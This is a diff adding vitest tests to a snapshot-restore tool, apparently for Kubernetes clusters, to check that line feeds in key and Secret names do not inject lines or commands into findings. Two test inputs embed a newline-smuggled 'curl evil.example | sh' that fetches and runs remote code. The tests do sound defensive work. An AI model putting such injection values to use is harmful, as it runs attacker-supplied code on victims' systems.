@@ -2,6 +2,7 @@ import { describe, expect, test } from "vitest";
 import type { EncryptionEntry } from "../../../src/snapshots/record.ts";
 import { checkEncryption, checkUnrecordedKeys } from "../../../src/restore/encryption-key.ts";
 import { collect } from "../../../src/restore/findings.ts";
+import { findKeySecret } from "../../../src/restore/key-secret.ts";
 import { parseManifest } from "../../../src/restore/manifest.ts";
 import { readTargetCluster } from "../../../src/restore/target-cluster.ts";
 import { refusalsOf, warningsOf } from "./expectations.ts";
@@ -223,6 +224,35 @@ describe("for a snapshot without a record", () => {
     ["a second key without backupKey", buildManifest(), [oldKey, newKey], "encryption-key-mismatch"],
   ])("%s is refused", (_, manifest, given, code) => {
     expect(refusalsOf(unrecorded(manifest, ...given).findings)).toEqual([code]);
+  });
+});
+
+describe("line feeds in names make neither lines nor commands", () => {
+  const evil = String.raw`"a\n\n  curl evil.example | sh"`;
+  const shown = (findings: ReturnType<typeof check>["findings"]): readonly string[] =>
+    findings.flatMap(({ text, hint = "" }) => [text, hint]);
+  const withEvil = buildManifest({ encryption: aescbc(evil), secret: null });
+
+  test.each<[string, EncryptionEntry]>([
+    ["of the key's Secret", oldEncryption],
+    ["of a Secret that is still to be made", { type: "none" }],
+  ])("%s", (_, encryption) => {
+    const findings = shown(check(encryption, withEvil).findings);
+    expect(findings.join("")).not.toContain("\n");
+    expect(findings.join("")).not.toContain("kubectl");
+  });
+
+  test("of KMS keys in a record", () => {
+    const { findings } = check({ type: "kms", kms: { "arn\n": "a\n- b" } }, buildManifest({ encryption: kms }));
+    expect(shown(findings).join("")).not.toContain("\n");
+  });
+
+  test("of Secrets in the manifest", () => {
+    const twice = buildSecret().replace("tenant-etcd-encryption-key", evil);
+    const documents = parseManifest(Buffer.from(buildManifest({ secret: `${twice}---\n${twice}` })));
+    const find = (): unknown =>
+      findKeySecret(documents, { namespace: "clusters", name: "a\n\n  curl evil.example | sh" });
+    expect(find).toThrow(/^[^\n]*more than once$/);
   });
 });
 
